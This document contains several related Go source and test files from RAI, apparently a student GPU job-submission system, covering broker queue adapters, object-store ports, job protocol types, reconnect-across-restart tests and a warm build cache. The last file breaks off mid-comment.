	lw := newLineWriter(func(s string) { lines = append(lines, s) })
	lw.Write([]byte("first li"))
	lw.Write([]byte("ne\nsecond line\npartial"))
	lw.Flush()
	if len(lines) != 3 || lines[0] != "first line" || lines[2] != "partial" {
		t.Fatalf("lines = %q", lines)
	}
	if lw.Bytes() != int64(len("first line\nsecond line\npartial")) {
		t.Errorf("Bytes = %d", lw.Bytes())
	}
}

func TestLogTopicNaming(t *testing.T) {
	if LogTopic("abc123") != "log_abc123#ch" {
		t.Errorf("LogTopic = %q", LogTopic("abc123"))
	}
	if NewJobID() == NewJobID() {
		t.Error("job ids collide")
	}
}
