package core

import (
	"testing"
	"time"

	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/build"
	"rai/internal/cnn"
	"rai/internal/project"
)

// TestRemoteQueueEndToEnd runs the whole client/worker protocol through
// the TCP broker adapter instead of the in-process one.
func TestRemoteQueueEndToEnd(t *testing.T) {
	e := newEnv(t)
	b := broker.New()
	srv, err := brokerd.NewServer(b, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close(); b.Close() })

	workerQueue, err := NewRemoteQueue(srv.Addr())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { workerQueue.Close() })
	e.worker.Queue = workerQueue
	e.worker.Cfg.RateLimit = 0
	go e.worker.Run()
	t.Cleanup(e.worker.Stop)

	clientQueue, err := NewRemoteQueue(srv.Addr())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { clientQueue.Close() })
	c := e.client(t, "team-tcp")
	c.Queue = clientQueue
	c.LogWait = 0 // real-time delivery; no virtual-clock timer

	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col, Team: "team-tcp"})
	res, err := c.Submit(KindRun, build.Default(), archive)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusSucceeded || res.Accuracy != 1.0 {
		t.Fatalf("res = %+v", res)
	}
	// List/Delete paths of the objects port.
	infos, err := c.Objects.List(BucketUploads, "team-tcp/")
	if err != nil || len(infos) != 1 {
		t.Fatalf("list = %v, %v", infos, err)
	}
	if err := c.Objects.Delete(BucketUploads, infos[0].Key); err != nil {
		t.Fatal(err)
	}
}

// TestResubmitReusesUpload is the grading rerun path: the same stored
// archive is executed again without re-uploading.
func TestResubmitReusesUpload(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-rerun")
	archive := packProject(t, project.Spec{
		Impl: cnn.ImplParallel, Tuning: 1, Team: "team-rerun", WithUsage: true, WithReport: true,
	})
	first, err := submitAndHandle(t, e, c, KindSubmit, nil, archive)
	if err != nil {
		t.Fatal(err)
	}
	// Locate the stored upload from the job record.
	job, err := e.db.FindOne(CollJobs, map[string]any{"job_id": first.JobID})
	if err != nil {
		t.Fatal(err)
	}
	bucket, _ := job["upload_bucket"].(string)
	key, _ := job["upload_key"].(string)
	if bucket == "" || key == "" {
		t.Fatalf("job doc lacks upload location: %v", job)
	}
	uploadsBefore, _ := e.objects.List(BucketUploads, "team-rerun/")

	e.clock.Advance(time.Minute)
	type out struct {
		res *JobResult
		err error
	}
	done := make(chan out, 1)
	go func() {
		res, err := c.Resubmit(KindSubmit, bucket, key)
		done <- out{res, err}
	}()
	if _, err := e.worker.HandleOne(5 * time.Second); err != nil {
		t.Fatal(err)
	}
	o := <-done
	if o.err != nil {
		t.Fatal(o.err)
	}
	if o.res.Status != StatusSucceeded {
		t.Fatalf("rerun status = %q", o.res.Status)
	}
	if o.res.InternalTimer != first.InternalTimer {
		t.Errorf("rerun timer %v != original %v (same archive, same model)", o.res.InternalTimer, first.InternalTimer)
	}
	// No new upload was created.
	uploadsAfter, _ := e.objects.List(BucketUploads, "team-rerun/")
	if len(uploadsAfter) != len(uploadsBefore) {
		t.Errorf("uploads grew from %d to %d on resubmit", len(uploadsBefore), len(uploadsAfter))
	}
}

func TestResubmitBadKind(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-badkind")
	if _, err := c.Resubmit("frobnicate", BucketUploads, "x"); err == nil {
		t.Fatal("bad kind accepted")
	}
}

func TestDownloadBuildWithoutArtifact(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-noartifact")
	if _, err := c.DownloadBuild(&JobResult{JobID: "x"}); err == nil {
		t.Fatal("download without artifact accepted")
	}
}
