package core

import (
	"context"
	"testing"
	"time"

	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/build"
	"rai/internal/cnn"
	"rai/internal/netx"
	"rai/internal/project"
	"rai/internal/telemetry"
)

// TestRemoteQueueEndToEnd runs the whole client/worker protocol through
// the TCP broker adapter instead of the in-process one.
func TestRemoteQueueEndToEnd(t *testing.T) {
	e := newEnv(t)
	b := broker.New()
	srv, err := brokerd.NewServer(b, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close(); b.Close() })

	workerQueue, err := NewRemoteQueue(context.Background(), srv.Addr())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { workerQueue.Close() })
	e.worker.Queue = workerQueue
	e.worker.Cfg.RateLimit = 0
	go e.worker.RunContext(context.Background())
	t.Cleanup(e.worker.Stop)

	clientQueue, err := NewRemoteQueue(context.Background(), srv.Addr())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { clientQueue.Close() })
	c := e.client(t, "team-tcp")
	c.Queue = clientQueue
	c.LogWait = 0 // real-time delivery; no virtual-clock timer

	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col, Team: "team-tcp"})
	res, err := c.SubmitContext(context.Background(), KindRun, build.Default(), archive)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusSucceeded || res.Accuracy != 1.0 {
		t.Fatalf("res = %+v", res)
	}
	// List/Delete paths of the objects port.
	infos, err := c.Objects.List(context.Background(), BucketUploads, "team-tcp/")
	if err != nil || len(infos) != 1 {
		t.Fatalf("list = %v, %v", infos, err)
	}
	if err := c.Objects.Delete(context.Background(), BucketUploads, infos[0].Key); err != nil {
		t.Fatal(err)
	}
}

// TestSubmissionSurvivesBrokerRestart is the PR's end-to-end acceptance
// check: with the broker down, a student submission started during the
// outage still completes once the broker comes back — the client's
// publish/subscribe and the worker's task subscription all ride the
// reconnecting queue instead of failing.
func TestSubmissionSurvivesBrokerRestart(t *testing.T) {
	e := newEnv(t)
	b := broker.New()
	t.Cleanup(func() { b.Close() })
	srv, err := brokerd.NewServer(b, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := srv.Addr()

	reg := telemetry.NewRegistry()
	p := netx.Policy{MaxAttempts: 100, BaseDelay: time.Millisecond, MaxDelay: 20 * time.Millisecond}
	m := netx.NewMetrics(reg, "broker")
	workerQueue, err := NewRemoteQueue(context.Background(), addr, WithQueuePolicy(p), WithQueueMetrics(m))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { workerQueue.Close() })
	e.worker.Queue = workerQueue
	e.worker.Cfg.RateLimit = 0
	go e.worker.RunContext(context.Background())
	t.Cleanup(e.worker.Stop)

	clientQueue, err := NewRemoteQueue(context.Background(), addr, WithQueuePolicy(p), WithQueueMetrics(m))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { clientQueue.Close() })
	c := e.client(t, "team-outage")
	c.Queue = clientQueue
	c.LogWait = 0 // real-time delivery; no virtual-clock timer

	// One clean submission first, so the worker's task subscription and
	// both publish connections exist before the restart kills them all.
	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col, Team: "team-outage"})
	res, err := c.SubmitContext(context.Background(), KindRun, build.Default(), archive)
	if err != nil {
		t.Fatalf("submission before restart: %v", err)
	}
	if res.Status != StatusSucceeded {
		t.Fatalf("status before restart = %q", res.Status)
	}

	// Step past the per-user rate limit, then kill the broker and bring
	// it back on the same address over the same engine while the next
	// submission is already underway.
	e.clock.Advance(time.Minute)
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	type restart struct {
		srv *brokerd.Server
		err error
	}
	restarted := make(chan restart, 1)
	go func() {
		time.Sleep(25 * time.Millisecond)
		srv2, err := brokerd.NewServer(b, addr)
		restarted <- restart{srv2, err}
	}()

	res2, err := c.SubmitContext(context.Background(), KindRun, build.Default(), archive)
	r := <-restarted
	if r.err != nil {
		t.Fatalf("broker restart: %v", r.err)
	}
	t.Cleanup(func() { r.srv.Close() })
	if err != nil {
		t.Fatalf("submission across restart: %v", err)
	}
	if res2.Status != StatusSucceeded || res2.Accuracy != 1.0 {
		t.Fatalf("res = %+v", res2)
	}
	if v, _ := reg.Value(netx.MetricReconnects, telemetry.L("component", "broker")); v < 1 {
		t.Errorf("reconnects counter = %v, want >= 1", v)
	}
}

// TestResubmitReusesUpload is the grading rerun path: the same stored
// archive is executed again without re-uploading.
func TestResubmitReusesUpload(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-rerun")
	archive := packProject(t, project.Spec{
		Impl: cnn.ImplParallel, Tuning: 1, Team: "team-rerun", WithUsage: true, WithReport: true,
	})
	first, err := submitAndHandle(t, e, c, KindSubmit, nil, archive)
	if err != nil {
		t.Fatal(err)
	}
	// Locate the stored upload from the job record.
	job, err := e.db.FindOne(CollJobs, map[string]any{"job_id": first.JobID})
	if err != nil {
		t.Fatal(err)
	}
	bucket, _ := job["upload_bucket"].(string)
	key, _ := job["upload_key"].(string)
	if bucket == "" || key == "" {
		t.Fatalf("job doc lacks upload location: %v", job)
	}
	uploadsBefore, _ := e.objects.List(context.Background(), BucketUploads, "team-rerun/")

	e.clock.Advance(time.Minute)
	type out struct {
		res *JobResult
		err error
	}
	done := make(chan out, 1)
	go func() {
		res, err := c.ResubmitContext(context.Background(), KindSubmit, bucket, key)
		done <- out{res, err}
	}()
	if _, err := e.worker.HandleOne(context.Background(), 5*time.Second); err != nil {
		t.Fatal(err)
	}
	o := <-done
	if o.err != nil {
		t.Fatal(o.err)
	}
	if o.res.Status != StatusSucceeded {
		t.Fatalf("rerun status = %q", o.res.Status)
	}
	if o.res.InternalTimer != first.InternalTimer {
		t.Errorf("rerun timer %v != original %v (same archive, same model)", o.res.InternalTimer, first.InternalTimer)
	}
	// No new upload was created.
	uploadsAfter, _ := e.objects.List(context.Background(), BucketUploads, "team-rerun/")
	if len(uploadsAfter) != len(uploadsBefore) {
		t.Errorf("uploads grew from %d to %d on resubmit", len(uploadsBefore), len(uploadsAfter))
	}
}

func TestResubmitBadKind(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-badkind")
	if _, err := c.ResubmitContext(context.Background(), "frobnicate", BucketUploads, "x"); err == nil {
		t.Fatal("bad kind accepted")
	}
}

func TestDownloadBuildWithoutArtifact(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-noartifact")
	if _, err := c.DownloadBuildContext(context.Background(), &JobResult{JobID: "x"}); err == nil {
		t.Fatal("download without artifact accepted")
	}
}
