package core

import (
	"context"
	"io"
	"time"

	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/netx"
	"rai/internal/objstore"
	"rai/internal/telemetry"
)

// ShipTelemetry adapts a Queue into the exporter's ShipFunc: every
// span/event batch is published on the rai.telemetry route, where the
// collector persists it. Used by all daemons (and the CLI) so the
// observability pipeline rides the same fabric as job traffic.
func ShipTelemetry(q Queue) telemetry.ShipFunc {
	return func(ctx context.Context, b *telemetry.Batch) error {
		return q.Publish(ctx, TelemetryTopic, b.Encode())
	}
}

// Queue is the message-broker port. Both the in-process engine
// (internal/broker) and the TCP client (internal/brokerd) satisfy it
// through the adapters below, so the same client/worker code runs
// embedded in simulations and distributed across machines.
type Queue interface {
	Publish(ctx context.Context, topic string, body []byte) error
	Subscribe(ctx context.Context, topic, channel string, maxInFlight int) (Subscription, error)
}

// Subscription is one consumer attachment.
type Subscription interface {
	// C delivers messages; it closes when the subscription ends.
	C() <-chan QueueMsg
	Close() error
}

// QueueMsg is a delivered message with its settlement handles.
type QueueMsg struct {
	Body    []byte
	Ack     func() error
	Requeue func() error
}

// ---- in-process broker adapter ----

// BrokerQueue adapts *broker.Broker to Queue. The engine is in-memory,
// so ctx only gates entry — there is no I/O to cancel.
type BrokerQueue struct{ B *broker.Broker }

// Publish implements Queue.
func (q BrokerQueue) Publish(ctx context.Context, topic string, body []byte) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	_, err := q.B.Publish(topic, body)
	return err
}

// Subscribe implements Queue.
func (q BrokerQueue) Subscribe(ctx context.Context, topic, channel string, maxInFlight int) (Subscription, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	sub, err := q.B.Subscribe(topic, channel, maxInFlight)
	if err != nil {
		return nil, err
	}
	out := make(chan QueueMsg, maxInFlight)
	go func() {
		defer close(out)
		for m := range sub.C() {
			m := m
			out <- QueueMsg{
				Body:    m.Body,
				Ack:     func() error { return sub.Ack(m) },
				Requeue: func() error { return sub.Requeue(m) },
			}
		}
	}()
	return brokerSub{sub: sub, c: out}, nil
}

type brokerSub struct {
	sub *broker.Subscription
	c   chan QueueMsg
}

func (s brokerSub) C() <-chan QueueMsg { return s.c }
func (s brokerSub) Close() error       { return s.sub.Close() }

// ---- TCP broker adapter ----

// RemoteQueue adapts a brokerd server address to Queue on top of
// reconnecting clients: publishes share one connection, each
// subscription holds its own (the brokerd protocol allows one
// subscription per connection), and all of them redial through broker
// restarts under the queue's retry policy.
type RemoteQueue struct {
	Addr string

	policy      netx.Policy
	metrics     *netx.Metrics
	dialTimeout time.Duration
	pub         *brokerd.ReconnClient
}

// RemoteQueueOption configures NewRemoteQueue.
type RemoteQueueOption func(*RemoteQueue)

// WithQueuePolicy sets the retry policy for every connection the queue
// opens.
func WithQueuePolicy(p netx.Policy) RemoteQueueOption {
	return func(q *RemoteQueue) { q.policy = p }
}

// WithQueueMetrics counts the queue's retries, reconnects, and blown
// deadlines.
func WithQueueMetrics(m *netx.Metrics) RemoteQueueOption {
	return func(q *RemoteQueue) { q.metrics = m }
}

// WithQueueDialTimeout bounds each dial attempt (0 = brokerd's
// DefaultDialTimeout).
func WithQueueDialTimeout(d time.Duration) RemoteQueueOption {
	return func(q *RemoteQueue) { q.dialTimeout = d }
}

// NewRemoteQueue connects the publish path. The eager Ping keeps the
// historical contract that a bad address fails at construction, not on
// first use; ctx bounds that probe.
func NewRemoteQueue(ctx context.Context, addr string, opts ...RemoteQueueOption) (*RemoteQueue, error) {
	q := &RemoteQueue{Addr: addr}
	for _, o := range opts {
		o(q)
	}
	q.pub = q.newClient()
	if err := q.pub.Ping(ctx); err != nil {
		_ = q.pub.Close()
		return nil, err
	}
	return q, nil
}

func (q *RemoteQueue) newClient() *brokerd.ReconnClient {
	opts := []brokerd.ReconnOption{
		brokerd.WithPolicy(q.policy),
		brokerd.WithMetrics(q.metrics),
	}
	if q.dialTimeout > 0 {
		opts = append(opts, brokerd.WithDialOptions(brokerd.WithDialTimeout(q.dialTimeout)))
	}
	return brokerd.NewReconnClient(q.Addr, opts...)
}

// Publish implements Queue.
func (q *RemoteQueue) Publish(ctx context.Context, topic string, body []byte) error {
	_, err := q.pub.Publish(ctx, topic, body)
	return err
}

// Subscribe implements Queue. The subscription survives broker
// restarts: its connection resubscribes transparently and deliveries
// resume (at-least-once — in-flight messages at the moment of the drop
// are requeued by the broker and redelivered).
func (q *RemoteQueue) Subscribe(ctx context.Context, topic, channel string, maxInFlight int) (Subscription, error) {
	conn := q.newClient()
	if err := conn.Subscribe(ctx, topic, channel, maxInFlight); err != nil {
		_ = conn.Close()
		return nil, err
	}
	// Settlement outlives the Subscribe call (the consumer acks from its
	// own loop), so it keeps the caller's values but not its cancellation:
	// an ack for completed work must still reach the broker after the
	// subscribing context winds down.
	settleCtx := context.WithoutCancel(ctx)
	out := make(chan QueueMsg, maxInFlight)
	go func() {
		defer close(out)
		for d := range conn.C() {
			d := d
			out <- QueueMsg{
				Body:    d.Body,
				Ack:     func() error { return conn.Ack(settleCtx, d) },
				Requeue: func() error { return conn.Requeue(settleCtx, d) },
			}
		}
	}()
	return remoteSub{conn: conn, c: out}, nil
}

// Close shuts down the publish connection.
func (q *RemoteQueue) Close() error { return q.pub.Close() }

type remoteSub struct {
	conn *brokerd.ReconnClient
	c    chan QueueMsg
}

func (s remoteSub) C() <-chan QueueMsg { return s.c }
func (s remoteSub) Close() error       { return s.conn.Close() }

// ---- object store port ----

// Objects is the file-server port, satisfied by the HTTP client
// (objstore.Client) directly and by the engine through LocalObjects.
// The streaming pair moves archives without materializing them: the
// client uploads from a temp file, the worker unpacks straight off the
// response body. size < 0 means unknown (chunked upload); GetReader's
// int64 is the content length (-1 when the server does not say).
type Objects interface {
	Put(ctx context.Context, bucket, key string, data []byte, ttl time.Duration) error
	Get(ctx context.Context, bucket, key string) ([]byte, error)
	PutReader(ctx context.Context, bucket, key string, r io.Reader, size int64, ttl time.Duration) error
	GetReader(ctx context.Context, bucket, key string) (io.ReadCloser, int64, error)
	List(ctx context.Context, bucket, prefix string) ([]objstore.ObjectInfo, error)
	Delete(ctx context.Context, bucket, key string) error
}

// LocalObjects adapts the in-process engine to Objects. ctx only gates
// entry — the engine is in-memory.
type LocalObjects struct{ S *objstore.Store }

// Put implements Objects.
func (o LocalObjects) Put(ctx context.Context, bucket, key string, data []byte, ttl time.Duration) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	_, err := o.S.Put(bucket, key, data, ttl)
	return err
}

// Get implements Objects.
func (o LocalObjects) Get(ctx context.Context, bucket, key string) ([]byte, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	data, _, err := o.S.Get(bucket, key)
	return data, err
}

// PutReader implements Objects, streaming into the engine.
func (o LocalObjects) PutReader(ctx context.Context, bucket, key string, r io.Reader, size int64, ttl time.Duration) error {
	_, err := o.S.PutReader(ctx, bucket, key, r, ttl)
	return err
}

// GetReader implements Objects, streaming out of the engine.
func (o LocalObjects) GetReader(ctx context.Context, bucket, key string) (io.ReadCloser, int64, error) {
	rc, info, err := o.S.GetReader(ctx, bucket, key)
	if err != nil {
		return nil, 0, err
	}
	return rc, info.Size, nil
}

// List implements Objects.
func (o LocalObjects) List(ctx context.Context, bucket, prefix string) ([]objstore.ObjectInfo, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	return o.S.List(bucket, prefix)
}

// Delete implements Objects.
func (o LocalObjects) Delete(ctx context.Context, bucket, key string) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	return o.S.Delete(bucket, key)
}

var _ Objects = (*objstore.Client)(nil)
var _ Objects = LocalObjects{}
var _ Queue = BrokerQueue{}
var _ Queue = (*RemoteQueue)(nil)
