package core

import (
	"time"

	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/objstore"
)

// Queue is the message-broker port. Both the in-process engine
// (internal/broker) and the TCP client (internal/brokerd) satisfy it
// through the adapters below, so the same client/worker code runs
// embedded in simulations and distributed across machines.
type Queue interface {
	Publish(topic string, body []byte) error
	Subscribe(topic, channel string, maxInFlight int) (Subscription, error)
}

// Subscription is one consumer attachment.
type Subscription interface {
	// C delivers messages; it closes when the subscription ends.
	C() <-chan QueueMsg
	Close() error
}

// QueueMsg is a delivered message with its settlement handles.
type QueueMsg struct {
	Body    []byte
	Ack     func() error
	Requeue func() error
}

// ---- in-process broker adapter ----

// BrokerQueue adapts *broker.Broker to Queue.
type BrokerQueue struct{ B *broker.Broker }

// Publish implements Queue.
func (q BrokerQueue) Publish(topic string, body []byte) error {
	_, err := q.B.Publish(topic, body)
	return err
}

// Subscribe implements Queue.
func (q BrokerQueue) Subscribe(topic, channel string, maxInFlight int) (Subscription, error) {
	sub, err := q.B.Subscribe(topic, channel, maxInFlight)
	if err != nil {
		return nil, err
	}
	out := make(chan QueueMsg, maxInFlight)
	go func() {
		defer close(out)
		for m := range sub.C() {
			m := m
			out <- QueueMsg{
				Body:    m.Body,
				Ack:     func() error { return sub.Ack(m) },
				Requeue: func() error { return sub.Requeue(m) },
			}
		}
	}()
	return brokerSub{sub: sub, c: out}, nil
}

type brokerSub struct {
	sub *broker.Subscription
	c   chan QueueMsg
}

func (s brokerSub) C() <-chan QueueMsg { return s.c }
func (s brokerSub) Close() error       { return s.sub.Close() }

// ---- TCP broker adapter ----

// RemoteQueue adapts a brokerd server address to Queue. Publishes share
// one connection; each subscription dials its own (the brokerd protocol
// allows one subscription per connection).
type RemoteQueue struct {
	Addr string
	pub  *brokerd.Client
}

// NewRemoteQueue connects the publish path.
func NewRemoteQueue(addr string) (*RemoteQueue, error) {
	pub, err := brokerd.Dial(addr)
	if err != nil {
		return nil, err
	}
	return &RemoteQueue{Addr: addr, pub: pub}, nil
}

// Publish implements Queue.
func (q *RemoteQueue) Publish(topic string, body []byte) error {
	_, err := q.pub.Publish(topic, body)
	return err
}

// Subscribe implements Queue.
func (q *RemoteQueue) Subscribe(topic, channel string, maxInFlight int) (Subscription, error) {
	conn, err := brokerd.Dial(q.Addr)
	if err != nil {
		return nil, err
	}
	if err := conn.Subscribe(topic, channel, maxInFlight); err != nil {
		conn.Close()
		return nil, err
	}
	out := make(chan QueueMsg, maxInFlight)
	go func() {
		defer close(out)
		for d := range conn.C() {
			d := d
			out <- QueueMsg{
				Body:    d.Body,
				Ack:     func() error { return conn.Ack(d) },
				Requeue: func() error { return conn.Requeue(d) },
			}
		}
	}()
	return remoteSub{conn: conn, c: out}, nil
}

// Close shuts down the publish connection.
func (q *RemoteQueue) Close() error { return q.pub.Close() }

type remoteSub struct {
	conn *brokerd.Client
	c    chan QueueMsg
}

func (s remoteSub) C() <-chan QueueMsg { return s.c }
func (s remoteSub) Close() error       { return s.conn.Close() }

// ---- object store port ----

// Objects is the file-server port, satisfied by the HTTP client
// (objstore.Client) directly and by the engine through LocalObjects.
type Objects interface {
	Put(bucket, key string, data []byte, ttl time.Duration) error
	Get(bucket, key string) ([]byte, error)
	List(bucket, prefix string) ([]objstore.ObjectInfo, error)
	Delete(bucket, key string) error
}

// LocalObjects adapts the in-process engine to Objects.
type LocalObjects struct{ S *objstore.Store }

// Put implements Objects.
func (o LocalObjects) Put(bucket, key string, data []byte, ttl time.Duration) error {
	_, err := o.S.Put(bucket, key, data, ttl)
	return err
}

// Get implements Objects.
func (o LocalObjects) Get(bucket, key string) ([]byte, error) {
	data, _, err := o.S.Get(bucket, key)
	return data, err
}

// List implements Objects.
func (o LocalObjects) List(bucket, prefix string) ([]objstore.ObjectInfo, error) {
	return o.S.List(bucket, prefix)
}

// Delete implements Objects.
func (o LocalObjects) Delete(bucket, key string) error { return o.S.Delete(bucket, key) }

var _ Objects = (*objstore.Client)(nil)
var _ Objects = LocalObjects{}
