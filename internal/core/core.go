// Package core implements RAI itself: the job submission protocol
// between the client (on the student's machine) and the workers (on
// GPU-equipped nodes), coordinated through the message broker, the file
// server, and the database — the architecture of the paper's Figure 1.
//
// The client-side steps (§V "Client Execution") and worker-side steps
// (§V "Worker Operations") are implemented faithfully: jobs travel on
// the rai/tasks queue route; each job gets an ephemeral log_${job_id}
// topic carrying stdout/stderr and the End message; project archives and
// /build outputs travel through the object store; execution metadata and
// competition rankings land in the database.
package core

import (
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"time"
)

// Queue routes (paper §V "Message Broker Operations").
const (
	// TasksTopic/TasksChannel is where clients publish job requests and
	// all workers subscribe; channel semantics deliver each job to
	// exactly one worker.
	TasksTopic   = "rai"
	TasksChannel = "tasks"
)

// LogTopic returns the ephemeral per-job topic (log_${job_id}/#ch). The
// '#' marks it for garbage collection when the last consumer leaves.
func LogTopic(jobID string) string { return "log_" + jobID + "#ch" }

// LogChannel is the channel clients subscribe to on the log topic.
const LogChannel = "ch"

// Telemetry route: every daemon's exporter publishes span/event batches
// here and the collector subscribes on a shared channel, so exactly one
// collector replica persists each batch. This is the paper's
// rai/telemetry route spelled with a '.' because broker names reserve
// '/' (see broker.validName).
const (
	TelemetryTopic   = "rai.telemetry"
	TelemetryChannel = "collect"
)

// Job kinds.
const (
	KindRun    = "run"    // development submission (rai run)
	KindSubmit = "submit" // final submission (rai submit)
)

// Object store buckets.
const (
	BucketUploads = "rai-uploads" // client project archives
	BucketBuilds  = "rai-builds"  // worker /build output archives
	// BucketBuildCache holds the worker's warm build cache: result
	// metadata and /build archives keyed by hash(spec)+tree hash, aged
	// out by the same sweep that expires uploads (DESIGN.md §16).
	BucketBuildCache = "rai-buildcache"
)

// Database collections.
const (
	CollJobs     = "jobs"
	CollRankings = "rankings"
	// CollTraces/CollEvents hold the collector's persisted telemetry:
	// span documents keyed by span_id and log events, both indexed by
	// trace_id/job_id/time for the raiadmin trace/logs queries.
	CollTraces = "traces"
	CollEvents = "events"
)

// UploadTTL is the file-server lifetime for uploaded archives ("deleted
// one month after the last use", §V step 3).
const UploadTTL = 30 * 24 * time.Hour

// JobRequest is the message a client publishes on rai/tasks.
type JobRequest struct {
	ID        string `json:"id"`
	User      string `json:"user"`
	AccessKey string `json:"access_key"`
	// Token authenticates the request: HMAC of the canonical payload
	// under the user's secret key (verified by the worker, §V worker
	// step 2).
	Token string `json:"token"`
	Kind  string `json:"kind"`
	// BuildSpec is the rai-build.yml content embedded in the job message
	// (ignored for final submissions, which use the enforced Listing 2
	// spec).
	BuildSpec []byte `json:"build_spec"`
	// UploadBucket/UploadKey locate the project archive on the file
	// server.
	UploadBucket string    `json:"upload_bucket"`
	UploadKey    string    `json:"upload_key"`
	SubmittedAt  time.Time `json:"submitted_at"`
	// TraceID/ParentSpan carry the client's telemetry trace so the
	// worker's spans join the same tree (one trace per job, client
	// upload through completion). Deliberately excluded from
	// CanonicalPayload: they are observability plumbing, not part of
	// the authenticated request, and relays may rewrite them.
	TraceID    string `json:"trace_id,omitempty"`
	ParentSpan string `json:"parent_span,omitempty"`
	// Sampled carries the head-sampling verdict made at the trace root
	// ("1" keep, "0" drop, "" no verdict) so the worker's sampler agrees
	// with the client's even when their configured rates differ. Like
	// TraceID/ParentSpan, excluded from CanonicalPayload.
	Sampled string `json:"sampled,omitempty"`
}

// CanonicalPayload is the byte string the request token signs.
func (j *JobRequest) CanonicalPayload() []byte {
	return []byte(j.ID + "|" + j.User + "|" + j.Kind + "|" + j.UploadBucket + "|" + j.UploadKey + "|" + string(j.BuildSpec))
}

// Log message kinds streamed on the job's log topic.
const (
	LogStdout = "stdout"
	LogStderr = "stderr"
	LogSystem = "system"
	LogEnd    = "end"
)

// LogMessage is one line of job output or the final End message.
type LogMessage struct {
	JobID string `json:"job_id"`
	Kind  string `json:"kind"`
	Line  string `json:"line,omitempty"`
	// End-message fields:
	Status        string  `json:"status,omitempty"` // succeeded | failed | rejected
	Elapsed       float64 `json:"elapsed_s,omitempty"`
	InternalTimer float64 `json:"internal_timer_s,omitempty"`
	Accuracy      float64 `json:"accuracy,omitempty"`
	BuildBucket   string  `json:"build_bucket,omitempty"`
	BuildKey      string  `json:"build_key,omitempty"`
	// Cached reports that the build phase was satisfied from the warm
	// build cache (identical spec + tree seen before) — the job skipped
	// the container entirely.
	Cached bool `json:"cached,omitempty"`
}

// Job terminal statuses.
const (
	StatusSucceeded = "succeeded"
	StatusFailed    = "failed"
	StatusRejected  = "rejected"
)

// Errors shared across client and worker.
var (
	ErrRejected     = errors.New("core: job rejected")
	ErrRateLimited  = errors.New("core: submission rate limit (one job per 30s)")
	ErrBadToken     = errors.New("core: invalid job token")
	ErrMissingFiles = errors.New("core: final submission requires USAGE and report.pdf")
)

// NewJobID mints a unique job identifier.
func NewJobID() string {
	var b [12]byte
	if _, err := rand.Read(b[:]); err != nil {
		panic("core: crypto/rand unavailable: " + err.Error())
	}
	return hex.EncodeToString(b[:])
}

// encodeJSON marshals a protocol message, panicking on programmer error
// (all protocol types are marshalable).
func encodeJSON(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(fmt.Sprintf("core: marshaling %T: %v", v, err))
	}
	return b
}
