package core

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"

	"rai/internal/build"
)

// Warm build cache (DESIGN.md §16). A job whose resolved build spec and
// source tree hash match a previously successful run is answered from
// the cache: the recorded result is replayed and the archived /build
// directory reused, skipping the container entirely. Entries live in
// BucketBuildCache as a metadata/archive pair under the same TTL sweep
// that ages uploads, so the cache needs no eviction logic of its own.
// Only kind "run" jobs participate — final submissions always execute,
// because their results land on the ranking board.

// cachedResult is the replayable outcome of a successful execution.
type cachedResult struct {
	ElapsedS      float64 `json:"elapsed_s"`
	InternalTimer float64 `json:"internal_timer_s"`
	Accuracy      float64 `json:"accuracy,omitempty"`
	TimeReport    string  `json:"time_report,omitempty"`
	HasBuild      bool    `json:"has_build"`
}

// buildCacheKey derives the cache identity: the resolved spec bytes
// (image, commands, resources — anything that changes the execution)
// plus the content hash of the source tree. "" disables caching for
// this job.
func buildCacheKey(spec *build.Spec, treeHash string) string {
	if spec == nil || treeHash == "" {
		return ""
	}
	enc, err := spec.Encode()
	if err != nil {
		return ""
	}
	h := sha256.New()
	h.Write(enc)
	h.Write([]byte("\x00"))
	h.Write([]byte(treeHash))
	return hex.EncodeToString(h.Sum(nil))
}

// lookupBuildCache fetches a cache entry; ok is false on any miss or
// decode problem (a corrupt entry is treated as absent, then
// overwritten by the fresh result).
func (w *Worker) lookupBuildCache(ctx context.Context, key string) (*cachedResult, []byte, bool) {
	if key == "" {
		return nil, nil, false
	}
	meta, err := w.Objects.Get(ctx, BucketBuildCache, key+".json")
	if err != nil {
		return nil, nil, false
	}
	var cr cachedResult
	if err := json.Unmarshal(meta, &cr); err != nil {
		return nil, nil, false
	}
	var archive []byte
	if cr.HasBuild {
		archive, err = w.Objects.Get(ctx, BucketBuildCache, key+".build")
		if err != nil {
			// Metadata without its archive (half-swept entry): miss, so
